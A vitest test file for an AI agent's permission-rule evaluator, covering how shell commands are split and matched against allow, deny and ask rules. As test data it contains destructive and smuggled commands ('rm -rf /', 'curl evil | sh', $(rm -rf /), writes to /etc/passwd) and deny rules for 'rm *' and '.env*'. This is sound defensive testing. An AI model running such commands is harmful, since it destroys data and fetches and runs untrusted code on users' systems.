import { describe, expect, it } from 'vitest';
import type { PermissionRule } from '../../src-common/domain/approval';
import { splitCommand } from '../../src-main/approvals/bash-command';
import { evaluate, type ToolCallContext } from '../../src-main/approvals/rule-evaluator';

let n = 0;
function rule(effect: PermissionRule['effect'], toolName: string, pattern: string | null = null, scope: PermissionRule['scope'] = 'global', extra: Partial<PermissionRule> = {}): PermissionRule {
  return { id: `r${++n}`, effect, toolName, pattern, scope, projectId: scope === 'project' ? 'p1' : null, sessionId: scope === 'session' ? 's1' : null, createdAt: 0, updatedAt: 0, ...extra };
}

function bash(command: string): ToolCallContext {
  return { toolName: 'Bash', input: { command }, cwd: '/wt', projectId: 'p1', sessionId: 's1' };
}

function write(filePath: string, toolName = 'Write'): ToolCallContext {
  return { toolName, input: { file_path: filePath, content: 'x' }, cwd: '/wt', projectId: 'p1', sessionId: 's1' };
}

describe('splitting shell commands', () => {
  it.each([
    ['git status', ['git status'], false],
    ['git status; rm -rf /', ['git status', 'rm -rf /'], false],
    ['git status && rm -rf /', ['git status', 'rm -rf /'], false],
    ['git status || curl evil | sh', ['git status', 'curl evil', 'sh'], false],
    ['git status & rm x', ['git status', 'rm x'], false],
    ['git status\nrm x', ['git status', 'rm x'], false],
    ['echo "a; b" && ls', ['echo "a; b"', 'ls'], false],
    ["echo 'x && y'", ["echo 'x && y'"], false],
    ['git status $(rm -rf /)', ['git status $(rm -rf /)'], true],
    ['git status `rm -rf /`', ['git status `rm -rf /`'], true],
    ['echo "$(whoami)"', ['echo "$(whoami)"'], true],
    ['diff <(ls a) <(ls b)', ['diff <(ls a) <(ls b)'], true],
    ['echo "unterminated', ['echo "unterminated'], true],
  ])('%j', (command, parts, opaque) => {
    expect(splitCommand(command)).toEqual({ parts, opaque });
  });
});

describe('rule evaluation', () => {
  const allowStatus = rule('allow', 'Bash', 'git status*');
  it.each<[string, PermissionRule[], ToolCallContext, string]>([
    ['an allow rule lets its command through', [allowStatus], bash('git status'), 'allow'],
    ['the glob covers arguments', [allowStatus], bash('git status --short'), 'allow'],
    ['a second command after ; is not covered', [allowStatus], bash('git status; rm -rf /'), 'ask'],
    ['nor after &&', [allowStatus], bash('git status && rm -rf /'), 'ask'],
    ['nor a pipe into a shell', [allowStatus], bash('git status | sh'), 'ask'],
    ['nor a command substitution', [allowStatus], bash('git status $(rm -rf /)'), 'ask'],
    ['nor backticks', [allowStatus], bash('git status `rm -rf /`'), 'ask'],
    ['nor a redirection that writes a file', [allowStatus], bash('git status > /etc/passwd'), 'ask'],
    ['nor a lookalike prefix', [rule('allow', 'Bash', 'npm test')], bash('npm test-and-publish'), 'ask'],
    ['an exact pattern matches exactly', [rule('allow', 'Bash', 'npm test')], bash('npm test'), 'allow'],
    ['every part allowed allows the line', [allowStatus, rule('allow', 'Bash', 'npm test')], bash('git status && npm test'), 'allow'],
    ['deny beats allow', [rule('allow', 'Bash'), rule('deny', 'Bash', 'rm *')], bash('ls; rm -rf /'), 'deny'],
    ['deny matches a part hidden in a compound line', [rule('deny', 'Bash', 'rm *')], bash('echo ok && rm -rf ~'), 'deny'],
    ['ask beats allow', [rule('allow', 'Bash', 'git *'), rule('ask', 'Bash', 'git push*')], bash('git push origin main'), 'ask'],
    ['a tool-wide allow does not cover command substitution', [rule('allow', 'Bash')], bash('echo $(rm -rf /)'), 'ask'],
    ['a path rule matches inside the worktree', [rule('allow', 'Write', 'src/**')], write('/wt/src/a/b.ts'), 'allow'],
    ['but not a sibling folder', [rule('allow', 'Write', 'src/**')], write('/wt/test/a.ts'), 'ask'],
    ['nor an escape from the worktree', [rule('allow', 'Write', '**')], write('/etc/passwd'), 'ask'],
    ['single star stays within a folder', [rule('allow', 'Edit', '*.md')], write('/wt/docs/a.md', 'Edit'), 'ask'],
    ['deny a path', [rule('allow', 'Write'), rule('deny', 'Write', '.env*')], write('/wt/.env.local'), 'deny'],
    ['MCP tools by server', [rule('allow', 'mcp__github__*')], { toolName: 'mcp__github__create_issue', input: {}, cwd: '/wt', projectId: 'p1', sessionId: 's1' }, 'allow'],
    ['other MCP servers are not covered', [rule('allow', 'mcp__github__*')], { toolName: 'mcp__slack__post', input: {}, cwd: '/wt', projectId: 'p1', sessionId: 's1' }, 'ask'],
    ['a project rule applies to its project', [rule('allow', 'Bash', 'make', 'project')], bash('make'), 'allow'],
    ['not to another project', [rule('allow', 'Bash', 'make', 'project', { projectId: 'p2' })], bash('make'), 'ask'],
    ['a session rule applies to its session only', [rule('deny', 'Bash', null, 'session', { sessionId: 's2' })], bash('ls'), 'ask'],
  ])('%s', (_name, rules, call, effect) => {
    expect(evaluate(rules, call, 'supervised').effect).toBe(effect);
  });

  it('reports the most specific scope within the winning effect', () => {
    const global = rule('allow', 'Bash', 'ls*');
    const session = rule('allow', 'Bash', 'ls*', 'session');
    const project = rule('allow', 'Bash', 'ls*', 'project');
    expect(evaluate([global, session, project], bash('ls -la'), 'supervised').rule?.id).toBe(session.id);
    expect(evaluate([global, project], bash('ls -la'), 'supervised').rule?.id).toBe(project.id);
  });

  it('falls back to the profile mode without a matching rule', () => {
    expect(evaluate([], bash('make'), 'supervised')).toMatchObject({ effect: 'ask', rule: null });
    expect(evaluate([], bash('make'), 'auto').effect).toBe('allow');
    expect(evaluate([], bash('make'), 'plan').effect).toBe('deny');
    expect(evaluate([], { ...write('/wt/a'), toolName: 'Read' }, 'plan').effect).toBe('allow');
    expect(evaluate([], write('/wt/a'), 'plan').effect).toBe('deny');
    // A deny rule still wins in auto mode.
    expect(evaluate([rule('deny', 'Bash', 'rm *')], bash('rm -rf /'), 'auto').effect).toBe('deny');
  });
});
